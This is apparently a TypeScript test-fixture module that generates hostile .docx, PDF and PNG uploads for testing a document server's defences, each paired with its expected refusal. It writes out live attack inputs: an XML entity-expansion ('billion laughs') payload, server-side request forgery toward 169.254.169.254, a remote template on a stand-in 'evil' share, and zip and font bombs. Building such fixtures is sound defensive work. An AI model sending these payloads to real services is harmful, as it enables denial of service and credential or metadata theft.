import { zipSync } from 'fflate'
import JSZip from 'jszip'
import { buildDocx, wordWriter } from '#engines/documents/server/index.ts'
import type { ErrorName } from '#shared/errors.ts'
import { withParts } from './docx-parts.ts'
import { scriptedPdf } from './scripted-pdf.ts'

/** A file that somebody sends to do harm, or by mistake; what it is refused with, or null when it is opened safely. */
export type BadFile = { what: string; name: string; bytes: Uint8Array; refused: ErrorName | null }

const utf8 = (text: string) => new TextEncoder().encode(text)
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

export const plainDocx = (body = wordWriter().p('正文'), title = '合同'): Uint8Array =>
  buildDocx({ title, body, header: '<w:p/>', footer: '<w:p/>', created: '2026-11-20T00:00:00Z' })

/** A compound file of one directory sector with these names, as [MS-CFB] has it. */
export function compoundFile(...names: string[]): Uint8Array {
  const bytes = new Uint8Array(512 * 3)
  const view = new DataView(bytes.buffer)
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  view.setUint16(30, 9, true)
  view.setUint32(48, 1, true)
  view.setUint32(68, 0xfffffffe, true)
  for (let i = 0; i < 109; i++) view.setUint32(76 + 4 * i, i === 0 ? 0 : 0xffffffff, true)
  for (let i = 0; i < 128; i++) view.setUint32(512 + 4 * i, [0xfffffffd, 0xfffffffe][i] ?? 0xffffffff, true)
  for (const [i, name] of names.entries()) {
    const at = 1024 + 128 * i
    for (const [c, letter] of [...name].entries()) view.setUint16(at + 2 * c, letter.charCodeAt(0), true)
    view.setUint16(at + 64, 2 * name.length + 2, true)
    view.setUint8(at + 66, 2)
  }
  return bytes
}

/** About 300 A4 pages of clauses with a table on every tenth. */
export function longDocx(pages = 300): Uint8Array {
  const w = wordWriter()
  const body: string[] = []
  for (let page = 1; page <= pages; page++) {
    for (let line = 1; line <= 14; line++)
      body.push(
        w.p(
          `第${page}页第${line}款 甲方应当在收到乙方发票后${line + page}日内支付人民币${page * line},000.00元，逾期按日万分之五支付违约金。`,
        ),
      )
    if (page % 10 === 0)
      body.push(
        w.table({
          widths: [2000, 2000],
          rows: [1, 2, 3].map((row) => [w.p(`项目${page}-${row}`), w.p(`${row * page}`)]),
        }),
      )
  }
  return plainDocx(body.join(''))
}

/** Tables in tables, as deep as a part may be nested. */
function nestedTables(depth: number): Uint8Array {
  const open = '<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="900"/></w:tblGrid><w:tr><w:tc><w:tcPr/>'
  return plainDocx(
    `${open.repeat(depth)}<w:p><w:r><w:t>最深处</w:t></w:r></w:p>${'<w:p/></w:tc></w:tr></w:tbl>'.repeat(depth)}<w:p/>`,
  )
}

async function manyParts(count: number): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(plainDocx())
  const parts: Record<string, Uint8Array> = {}
  for (const name of Object.keys(zip.files))
    if (zip.file(name)) parts[name] = (await zip.file(name)?.async('uint8array')) as Uint8Array
  const empty = new Uint8Array()
  for (let i = 0; i < count; i++) parts[`word/media/${i}.bin`] = empty
  return zipSync(parts, { level: 1 })
}

const withFont = (font: Uint8Array) =>
  withParts(plainDocx(), {
    'word/fonts/font1.odttf': font,
    'word/fontTable.xml': (xml) =>
      xml.replace(
        '</w:font>',
        '<w:embedRegular r:id="rId1" w:fontKey="{302EE813-EB4A-4642-A93A-89EF99B2457E}"/></w:font>',
      ),
    'word/_rels/fontTable.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/font" Target="fonts/font1.odttf"/></Relationships>`,
    '[Content_Types].xml': (xml) =>
      xml.replace(
        '</Types>',
        '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/></Types>',
      ),
  })

/** Bytes that look random, the same every time. */
function noise(length: number): Uint8Array {
  const bytes = new Uint8Array(length)
  let state = 7
  for (let i = 0; i < length; i++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
    bytes[i] = state >>> 24
  }
  return bytes
}

const withBody = (xml: string) => withParts(plainDocx(), { 'word/document.xml': xml })
const withRelation = (attributes: string) =>
  withParts(plainDocx(), {
    'word/_rels/document.xml.rels': (xml) =>
      xml.replace('</Relationships>', `<Relationship Id="rId99" ${attributes}/></Relationships>`),
  })
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

function png(width: number, height: number): Uint8Array {
  const bytes = new Uint8Array(8 + 25 + 12)
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const view = new DataView(bytes.buffer)
  view.setUint32(8, 13)
  bytes.set(utf8('IHDR'), 12)
  view.setUint32(16, width)
  view.setUint32(20, height)
  bytes.set(utf8('IEND'), 37)
  return bytes
}

const docx = (what: string, bytes: Uint8Array, refused: ErrorName | null): BadFile => ({
  what,
  name: '合同.docx',
  bytes,
  refused,
})

/** The files of issue 4's "bad input" that are small, each with what becomes of it. */
export async function smallBadFiles(): Promise<BadFile[]> {
  const sound = plainDocx()
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  return [
    docx('cut off', sound.slice(0, 900), 'fileMismatch'),
    docx('a part that is no XML', await withBody('<w:document'), 'fileMismatch'),
    docx('encrypted', compoundFile('Root Entry', 'EncryptedPackage', 'EncryptionInfo'), 'encryptedFile'),
    docx(
      'with a macro',
      await withParts(sound, { 'word/vbaProject.bin': compoundFile('VBA') }),
      'macroInFile',
    ),
    docx(
      'entities that grow',
      await withBody(`<!DOCTYPE w [<!ENTITY l0 "ha">${laughs}]><w:document ${w}>&l9;</w:document>`),
      'unsafeFile',
    ),
    docx(
      'with a picture from elsewhere',
      await withRelation(
        `Type="${office}/image" Target="http://169.254.169.254/x.png" TargetMode="External"`,
      ),
      null,
    ),
    docx(
      'with a template from elsewhere',
      await withRelation(`Type="${office}/attachedTemplate" Target="\\\\evil\\t.dotm" TargetMode="External"`),
      null,
    ),
    docx(
      'with a web page to be merged in',
      await withRelation(`Type="${office}/aFChunk" Target="a.html"`),
      'foreignPart',
    ),
    docx(
      'that is a web page inside',
      await withBody('<html><body><p>合同</p></body></html>'),
      'fileMismatch',
    ),
    { what: 'a PDF with script', name: '合同.pdf', bytes: scriptedPdf(), refused: null },
    {
      what: 'a picture of 100 megapixels',
      name: '扫描.png',
      bytes: png(10_000, 10_000),
      refused: 'fileTooComplex',
    },
    {
      what: 'a program called .docx',
      name: '合同.docx',
      bytes: utf8('MZ\u0090\0program'),
      refused: 'fileMismatch',
    },
  ]
}

/** Those that are large, or become large when they are opened: making them takes a second. */
export async function largeBadFiles(): Promise<BadFile[]> {
  const sound = plainDocx()
  return [
    docx('of 60,000 parts', await manyParts(60_000), 'fileTooComplex'),
    docx(
      'nested 100,000 deep',
      await withBody(`<w:document ${w}>${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}</w:document>`),
      'fileTooComplex',
    ),
    docx(
      'with two million elements',
      await withBody(`<w:document ${w}><w:body>${'<w:p/>'.repeat(2_000_000)}</w:body></w:document>`),
      'fileTooComplex',
    ),
    docx(
      'a zip bomb',
      await withParts(sound, { 'word/media/zeros.bin': new Uint8Array(60_000_000) }),
      'fileTooComplex',
    ),
    docx('a font bomb', await withFont(new Uint8Array(80_000_000)), 'fileTooComplex'),
    docx('with a font that is none', await withFont(noise(200_000)), null),
    docx('with tables nested as deep as may be', nestedTables(60), null),
    docx('of 300 pages', longDocx(), null),
  ]
}
